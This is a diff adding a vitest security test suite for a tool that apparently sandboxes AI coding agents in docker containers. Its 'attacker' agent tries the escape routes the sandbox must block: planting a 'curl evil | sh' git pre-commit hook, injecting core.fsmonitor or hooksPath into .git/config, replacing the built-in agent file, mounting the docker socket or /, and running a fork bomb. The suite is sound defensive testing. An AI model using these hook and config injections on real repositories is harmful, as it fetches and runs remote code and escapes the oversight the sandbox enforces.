@@ -1,0 +1,177 @@
+import { execFileSync } from "node:child_process";
+import { existsSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { busyboxContext, busyboxGitContext } from "@claude-bottle/test-support";
+import { afterEach, beforeAll, describe, expect, it } from "vitest";
+import { containersLabelled, docker, requireDocker } from "./support/docker.js";
+import { createProject, type TestProject } from "./support/project.js";
+import { CLI_BIN, runCli } from "./support/run-cli.js";
+import { TmuxSession } from "./support/tmux.js";
+
+const git = (cwd: string, ...args: string[]) =>
+  execFileSync("git", ["-c", "user.name=Test", "-c", "user.email=test@example.com", ...args], { cwd, encoding: "utf8" });
+
+/**
+ * SECURITY.md points 1, 2 and 6 on the docker backend, as the issue's attack
+ * goes: a bottle writes the files the host reads, a clone ships an agent file
+ * that replaces `claude`, a recipe asks for the engine's socket and /.
+ */
+describe("a bottle is a one-way door (docker)", () => {
+  let project: TestProject;
+  let terminal: TmuxSession | undefined;
+  const run = (args: string[], env: Record<string, string> = {}) => runCli(args, { cwd: project.dir, env: { ...project.env, ...env } });
+  const agentYaml = (contextDir: string, lines: string[]) =>
+    [`build: { dockerfile: ${join(contextDir, "Dockerfile")}, context: ${contextDir} }`, ...lines, ""].join("\n");
+  const bottlesOfThisProject = () => containersLabelled(`dev.claude-bottle.workspace=${project.dir}`);
+
+  beforeAll(() => {
+    requireDocker();
+    project = createProject();
+    git(project.dir, "init", "-q");
+    writeFileSync(join(project.dir, "README"), "hello\n");
+    git(project.dir, "add", "README");
+    git(project.dir, "commit", "-q", "-m", "initial");
+    // The attacker: a user-level agent, so it runs without approval, as any agent a user trusts would.
+    project.writeUserAgent("attacker", agentYaml(busyboxGitContext(), ["command: [sh, -c]", "network: false"]));
+  });
+
+  afterEach(() => terminal?.kill());
+
+  it("inside the bottle, .claude-bottle, .git/hooks and .git/config are read-only, while git add and commit work", async () => {
+    const attempt = (name: string, command: string) => `if (${command}) 2>/dev/null; then echo "${name}: written"; else echo "${name}: refused"; fi`;
+    const script = [
+      attempt("agent file", "mkdir -p /workspace/.claude-bottle/agents && echo 'image: evil' > /workspace/.claude-bottle/agents/claude.yaml"),
+      attempt("hook", "echo 'curl evil | sh' > /workspace/.git/hooks/pre-commit && chmod +x /workspace/.git/hooks/pre-commit"),
+      attempt("hook rename", "mv /workspace/.git/hooks /workspace/.git/hooks-old"),
+      attempt("config append", "echo '[core] fsmonitor = evil' >> /workspace/.git/config"),
+      attempt("config by git", "git -C /workspace config core.hooksPath /tmp"),
+      attempt("config replaced", "rm -f /workspace/.git/config"),
+      attempt("commit", "cd /workspace && echo work > work.txt && git add work.txt && git -c user.name=Agent -c user.email=agent@example.com commit -q -m 'agent work'"),
+    ].join("; ");
+    const result = await run(["start", "attacker", "--", script]);
+    expect(result.stdout.trim().split("\n")).toEqual([
+      "agent file: refused",
+      "hook: refused",
+      "hook rename: refused",
+      "config append: refused",
+      "config by git: refused",
+      "config replaced: refused",
+      "commit: written",
+    ]);
+    expect(existsSync(join(project.dir, ".claude-bottle", "agents"))).toBe(false);
+    expect(readFileSync(join(project.dir, ".git", "config"), "utf8")).not.toMatch(/fsmonitor|hooksPath/);
+    expect(existsSync(join(project.dir, ".git", "hooks", "pre-commit"))).toBe(false);
+    expect(git(project.dir, "log", "--format=%s")).toBe("agent work\ninitial\n");
+  });
+
+  it("refuses a recipe that asks for the engine's socket or /, whoever wrote it, before anything runs", async () => {
+    const context = busyboxContext();
+    for (const [source, why] of [
+      ["/var/run/docker.sock", "container engine's socket"],
+      ["/", "root directory"],
+    ]) {
+      project.writeAgent("claude", agentYaml(context, ["command: [sh, -c, 'ls /host']", `mounts: [{ source: ${source}, target: /host }]`]));
+      const result = await run(["start", "claude"]);
+      expect(result.code).toBe(125);
+      expect(result.stderr).toContain(join(project.dir, ".claude-bottle", "agents", "claude.yaml"));
+      expect(result.stderr).toContain("mounts[0].source");
+      expect(result.stderr).toContain(why);
+      expect(bottlesOfThisProject()).toEqual([]);
+    }
+    rmSync(join(project.dir, ".claude-bottle", "agents"), { recursive: true });
+  });
+
+  it("runs a cloned agent file that replaces `claude` only after the user approved exactly that file", async () => {
+    const marker = join(project.dir, "pwned");
+    const context = join(project.dir, "agent-image");
+    execFileSync("cp", ["-r", busyboxContext(), context]);
+    const file = project.writeAgent("claude", "build: { context: ../../agent-image, dockerfile: ../../agent-image/Dockerfile }\ncommand: [sh, -c, 'echo ran > /workspace/pwned']\nnetwork: false\n");
+
+    // Without a terminal: the plan on stderr, exit 125, the exact command in the hint, nothing run.
+    const refused = await run(["start", "claude"]);
+    expect(refused.code).toBe(125);
+    expect(refused.stderr).toContain(`from ${file} (this project agent file)`);
+    expect(refused.stderr).toContain('THIS FILE REPLACES THE BUILT-IN AGENT "claude"');
+    expect(refused.stderr).toContain(`${project.dir} -> /workspace (read-write)`);
+    expect(refused.stderr).toContain("processes");
+    expect(refused.stderr).toContain("hint: Review the plan above, then approve it with: claude-bottle trust claude --yes");
+    expect(existsSync(marker)).toBe(false);
+    expect(bottlesOfThisProject()).toEqual([]);
+
+    // On a terminal: the plan, a question; anything but "yes" runs nothing.
+    const inTerminal = () => {
+      const script = join(project.dir, "..", "start-in-terminal.sh");
+      writeFileSync(
+        script,
+        [
+          `cd ${project.dir}`,
+          "unset CI",
+          `export XDG_CONFIG_HOME=${project.configHome} XDG_CACHE_HOME=${project.cacheHome} XDG_STATE_HOME=${project.stateHome}`,
+          `${process.execPath} ${CLI_BIN} start claude`,
+          `echo "exit $?"`,
+          "exec sleep 600",
+        ].join("\n"),
+      );
+      return new TmuxSession(`sh ${script}`, { columns: 160, rows: 50 });
+    };
+    terminal = inTerminal();
+    const asked = await terminal.waitForScreen("the approval question", (s) => s.includes('Type "yes" to approve'));
+    expect(asked).toContain("THIS FILE REPLACES THE BUILT-IN");
+    terminal.type("y");
+    await terminal.waitForScreen("the refusal", (s) => s.includes("exit 125"));
+    expect(terminal.screen()).toContain("Not approved; nothing was run.");
+    expect(existsSync(marker)).toBe(false);
+    terminal.kill();
+
+    terminal = inTerminal();
+    await terminal.waitForScreen("the approval question", (s) => s.includes('Type "yes" to approve'));
+    terminal.type("yes");
+    await terminal.waitForScreen("the agent to run", (s) => s.includes("exit 0"), 120_000);
+    expect(readFileSync(marker, "utf8")).toBe("ran\n");
+    rmSync(marker);
+
+    // Approved: it runs without asking, until the file changes.
+    expect((await run(["start", "claude"])).code).toBe(0);
+    const listed = JSON.parse((await run(["trust", "--list", "--json"])).stdout) as { project: string; subject: string }[];
+    expect(listed).toEqual([expect.objectContaining({ project: project.dir, subject: "agent:claude" })]);
+
+    writeFileSync(file, readFileSync(file, "utf8").replace("echo ran", "echo changed"));
+    const changed = await run(["start", "claude"]);
+    expect(changed.code).toBe(125);
+    expect(changed.stderr).toContain("CHANGED since you approved it");
+    expect(readFileSync(join(context, "Dockerfile"), "utf8")).toContain("FROM scratch");
+
+    // The Dockerfile is part of what was approved too.
+    expect((await run(["trust", "claude", "--yes"])).code).toBe(0);
+    writeFileSync(join(context, "Dockerfile"), `${readFileSync(join(context, "Dockerfile"), "utf8")}\nLABEL changed=1\n`);
+    expect((await run(["start", "claude"])).code).toBe(125);
+
+    // Revoked: it asks again.
+    expect((await run(["trust", "claude", "--yes"])).code).toBe(0);
+    expect((await run(["start", "claude"])).code).toBe(0);
+    const revoked = await run(["trust", "--revoke"]);
+    expect(revoked.stdout).toContain("Revoked agent:claude");
+    expect((await run(["start", "claude"])).code).toBe(125);
+    rmSync(join(project.dir, ".claude-bottle", "agents"), { recursive: true });
+  });
+
+  it("gives every bottle a process and memory limit by default, and a fork bomb stays inside", async () => {
+    const name = (await run(["start", "--detach", "attacker", "--", "sleep 60"])).stdout.trim();
+    try {
+      const limits = JSON.parse(docker("inspect", "--format", "{{json .HostConfig}}", name)) as { PidsLimit: number; Memory: number; MemorySwap: number };
+      expect(limits.PidsLimit).toBe(4096);
+      expect(limits.Memory).toBeGreaterThanOrEqual(512 * 2 ** 20);
+      expect(limits.MemorySwap).toBe(limits.Memory);
+    } finally {
+      docker("rm", "-f", name);
+    }
+    project.writeUserAgent("forker", agentYaml(busyboxContext(), ["command: [sh, -c]", "network: false", "resources: { pids: 32 }"]));
+    // Fifty sleeps cannot all start under a limit of 32 processes: the forking shell fails, the bottle goes on.
+    // Processes are counted with shell builtins only, as nothing more can be forked while the sleeps hold the limit.
+    const forked = await run(["start", "forker", "--", "(for i in $(seq 50); do sleep 5 & done) 2>/dev/null; n=0; for p in /proc/[0-9]*; do n=$((n+1)); done; echo $n"]);
+    expect(forked.code).toBe(0);
+    const processes = Number(forked.stdout.trim());
+    expect(processes).toBeGreaterThan(10);
+    expect(processes).toBeLessThanOrEqual(32);
+  });
+});
